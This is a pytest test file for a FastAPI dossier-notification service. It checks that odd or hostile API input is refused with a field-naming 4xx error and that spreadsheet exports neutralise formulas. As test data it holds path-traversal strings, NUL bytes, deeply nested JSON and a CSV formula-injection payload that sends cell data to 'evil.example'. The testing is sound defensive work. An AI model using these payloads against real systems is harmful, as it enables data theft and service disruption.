"""Odd requests to the API get a 4xx naming the field, never a 500 or the database's SQL (issue 11)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from notifier.rules.portal import code_problem
from notifier.store.apikeys import create_key
from notifier.store.models import Dossier
from notifier.web.api import create_app
from notifier.workflows.service import Service
from tests.factories import dossier


@pytest.fixture
def api(service: Service) -> tuple[TestClient, dict[str, str]]:
    with service.factory() as session, session.begin():
        key = create_key(session, "portal", service.clock.now())
    client = TestClient(create_app(service), raise_server_exceptions=False)
    return client, {"Authorization": f"Bearer {key}"}


def _post(api: tuple[TestClient, dict[str, str]], *items: dict[str, Any]) -> Any:
    client, headers = api
    return client.post("/api/v1/dossiers", json={"data": list(items)}, headers=headers)


def _stored(service: Service) -> list[str]:
    with service.factory() as session:
        return list(session.scalars(select(Dossier.code)))


@pytest.mark.parametrize(
    "code",
    [
        "HS\x00-1", "HS-1\nHS-2", "HS-\u202e1", "HS\u200b-1", "HS-😀", "../etc/passwd", "HS/../1",
        "=HYPERLINK(\"http://x\")", "+HS-1", "-HS-1", "@HS", " ", "HS 1", "x" * 65,
    ],
)  # fmt: skip
def test_codes_outside_the_portals_charset_are_refused_naming_the_field(
    service: Service, api: tuple[TestClient, dict[str, str]], code: str
) -> None:
    resp = _post(api, dossier(code))
    assert resp.status_code == 422, resp.text
    [error] = resp.json()["errors"]
    assert error["field"] == "MaHoSo"
    assert _stored(service) == []


def test_real_codes_pass() -> None:
    for code in ("000.00.30.H26-261120-0001", "H26.47-260101-0001", "HS_1/2026", "abc123"):
        assert code_problem(code) is None, code


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("ChuHoSo", "Nguyễn \ud800 An"),  # a lone surrogate: no UTF-8 for it
        ("ChuHoSo", "Nguyễn\x00An"),  # NUL: PostgreSQL refuses it
        ("ChuHoSo", "A" * 256),
        ("TenDonVi", "B" * 256),
        ("MaCanBo", "C" * 65),
        ("Email", "a" * 251 + "@x.vn"),
        ("MaTTHC", "D" * 65),
        ("GhiChu", "\x00"),
    ],
)
def test_over_long_or_unstorable_text_is_refused_naming_its_field(
    service: Service, api: tuple[TestClient, dict[str, str]], field: str, value: str
) -> None:
    client, headers = api
    # Sent as raw JSON text: a lone surrogate cannot be encoded by json= in the test client.
    body = json.dumps({"data": [dossier("HS-1", **{field: value})]}, ensure_ascii=True)
    resp = client.post(
        "/api/v1/dossiers", content=body, headers={**headers, "content-type": "application/json"}
    )
    assert resp.status_code == 422, resp.text
    [error] = resp.json()["errors"]
    assert error["field"] == field
    assert "INSERT" not in resp.text and "SELECT" not in resp.text
    assert _stored(service) == []


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"TrangThaiHoSo": True}, "TrangThaiHoSo"),
        ({"DaThanhToan": False}, "DaThanhToan"),
        ({"LoaiDoiTuong": True}, "LoaiDoiTuong"),
        ({"DanhSachLePhi": [{"Gia": 10**19}]}, "DanhSachLePhi.0.Gia"),  # past a BIGINT
        ({"NgayTiepNhan": "00010101000000"}, "NgayTiepNhan"),
        ({"NgayHenTra": "99991231235959"}, "NgayHenTra"),
    ],
)
def test_booleans_are_no_numbers_and_values_out_of_range_are_refused(
    service: Service, api: tuple[TestClient, dict[str, str]], overrides: dict[str, Any], field: str
) -> None:
    resp = _post(api, dossier("HS-1", **overrides))
    assert resp.status_code == 422, resp.text
    assert [e["field"] for e in resp.json()["errors"]] == [field]
    assert _stored(service) == []


def test_deeply_nested_json_is_a_4xx(api: tuple[TestClient, dict[str, str]]) -> None:
    client, headers = api
    deep = "[" * 100_000 + "]" * 100_000
    for body in (
        deep,
        '{"data": [' + deep + "]}",
        json.dumps({"data": [dossier("HS-1")]})[:-2] + ", " + deep + "]}",
    ):
        resp = client.post(
            "/api/v1/dossiers", content=body, headers={**headers, "content-type": "application/json"}
        )
        assert 400 <= resp.status_code < 500, resp.text[:200]
    nested_cell = dossier("HS-2", DanhSachLePhi="[" * 100_000 + "]" * 100_000)  # JSON text in a CSV cell
    resp = _post(api, nested_cell)
    assert resp.status_code == 422 and resp.json()["errors"][0]["field"] == "DanhSachLePhi"


@pytest.mark.parametrize("code", ["HS%00-1", "..%2F..%2Fetc", "%E2%80%AEHS"])
def test_odd_codes_in_the_path_are_refused_before_any_query(
    api: tuple[TestClient, dict[str, str]], code: str
) -> None:
    client, headers = api
    for method, path in (("GET", f"/api/v1/dossiers/{code}"), ("POST", f"/api/v1/dossiers/{code}/resolve")):
        resp = client.request(method, path, headers=headers)
        assert resp.status_code in (404, 422), (path, resp.status_code, resp.text[:200])


@pytest.mark.parametrize(
    ("from_", "to"),
    [("0001-01-01", "2026-01-01"), ("2026-01-01", "9999-12-31"), ("01/01/0001", "31/12/9999")],
)
def test_reports_for_extreme_dates_are_refused(
    api: tuple[TestClient, dict[str, str]], from_: str, to: str
) -> None:
    client, headers = api
    resp = client.get("/api/v1/reports/period", params={"from": from_, "to": to}, headers=headers)
    assert resp.status_code == 422, resp.text
    month = client.get("/api/v1/reports/monthly", params={"month": "9999-12"}, headers=headers)
    assert month.status_code == 422, month.text


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/apology", {"new_due": "15/12/2026", "reason": "Chờ ý kiến\x00"}, "reason"),
        ("/apology", {"new_due": "15/12/2026", "reason": "Chờ ý kiến", "officer": "CB\x00"}, "officer"),
        ("/apology", {"NgayHenTraMoi": "15/12/2026", "LyDoTreHan": "Chờ\x00"}, "LyDoTreHan"),
        ("/resolve", {"note": "Đã ký\x00"}, "note"),
        ("/resolve", {"MaCanBo": "CB\x00"}, "MaCanBo"),
    ],
)
def test_a_nul_in_an_officers_action_is_refused_naming_its_field(
    api: tuple[TestClient, dict[str, str]], path: str, body: dict[str, str], field: str
) -> None:
    # PostgreSQL refuses NUL in text: each was a 500 there.
    _post(api, dossier("HS-1"))
    client, headers = api
    resp = client.post(f"/api/v1/dossiers/HS-1{path}", json=body, headers=headers)
    assert resp.status_code == 422, resp.text
    assert resp.json()["detail"][0]["field"] == field


@pytest.mark.parametrize("field", ["MaCanBo", "HoTen", "MaDonVi", "ChucDanh"])
def test_a_nul_in_an_officer_row_is_refused_naming_its_field(
    api: tuple[TestClient, dict[str, str]], field: str
) -> None:
    client, headers = api
    row = {"MaCanBo": "CB9", "HoTen": "Trần Thị Bình", "MaDonVi": "000.00.30.H26", field: "x\x00y"}
    resp = client.post("/api/v1/officers", json={"data": [row]}, headers=headers)
    assert resp.status_code == 422, resp.text
    assert [e["field"] for e in resp.json()["errors"]] == [field]


@pytest.mark.parametrize(
    ("agency", "day", "field"),
    [
        ("000.00.30.H26", "31/12/9999", "date"),
        ("000.00.30.H26", "0001-01-01", "date"),
        ("H26%00", "01/12/2026", "MaDonVi"),
    ],
)
def test_day_slips_for_extreme_dates_or_a_nul_agency_are_refused(
    api: tuple[TestClient, dict[str, str]], agency: str, day: str, field: str
) -> None:
    # 31/12/9999 overflowed the day's end in Vietnam time (a 500 on both databases), a NUL on PostgreSQL.
    client, headers = api
    resp = client.get(f"/api/v1/agencies/{agency}/qr-slips", params={"date": day}, headers=headers)
    assert resp.status_code in (404, 422), resp.text
    assert resp.json()["detail"][0]["field"] == field


def test_the_bearer_scheme_is_read_in_any_case(
    service: Service, api: tuple[TestClient, dict[str, str]]
) -> None:
    client, headers = api
    key = headers["Authorization"].removeprefix("Bearer ")
    for scheme in ("bearer", "BEARER", "Bearer"):
        resp = client.post("/api/v1/dossiers", json=[dossier()], headers={"Authorization": f"{scheme} {key}"})
        assert resp.status_code == 200, (scheme, resp.text)
    assert (
        client.post("/api/v1/dossiers", json=[], headers={"Authorization": f"Basic {key}"}).status_code == 401
    )
    assert client.post("/api/v1/dossiers", json=[], headers={"Authorization": "bearer"}).status_code == 401


def test_csv_and_xlsx_reports_show_formulas_as_text(api: tuple[TestClient, dict[str, str]]) -> None:
    import io

    from openpyxl import load_workbook

    client, headers = api
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    assert _post(api, dossier("HS-1", MaDonVi="EVIL", TenDonVi=evil)).status_code == 200
    params = {"month": "2026-11", "format": "csv"}
    text = client.get("/api/v1/reports/monthly", params=params, headers=headers).text
    assert "'=HYPERLINK" in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    xlsx = client.get("/api/v1/reports/monthly", params={**params, "format": "xlsx"}, headers=headers).content
    book = load_workbook(io.BytesIO(xlsx))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula


def test_safe_cell_leaves_numbers_and_plain_text() -> None:
    from notifier.rules.cells import safe_cell

    assert [safe_cell(v) for v in (-5, 3.5, None, "Sở Tư pháp", "-1", "@SUM(A1)", "+84912")] == [
        -5, 3.5, None, "Sở Tư pháp", "'-1", "'@SUM(A1)", "'+84912",
    ]  # fmt: skip


def test_a_rejected_long_value_is_echoed_shortened_with_its_length(
    service: Service, api: tuple[TestClient, dict[str, str]]
) -> None:
    # As the command line shows it: the 422 answer echoed a 100,000-character name whole.
    resp = _post(api, dossier("HS-1", ChuHoSo="Nguyễn" + "x" * 99_994), dossier("HS-2", ChuHoSo="B" * 256))
    assert resp.status_code == 422, resp.text
    assert [e["value"] for e in resp.json()["errors"]] == [
        f"Nguyễn{'x' * 74}… (100000 characters)",
        f"{'B' * 80}… (256 characters)",
    ]
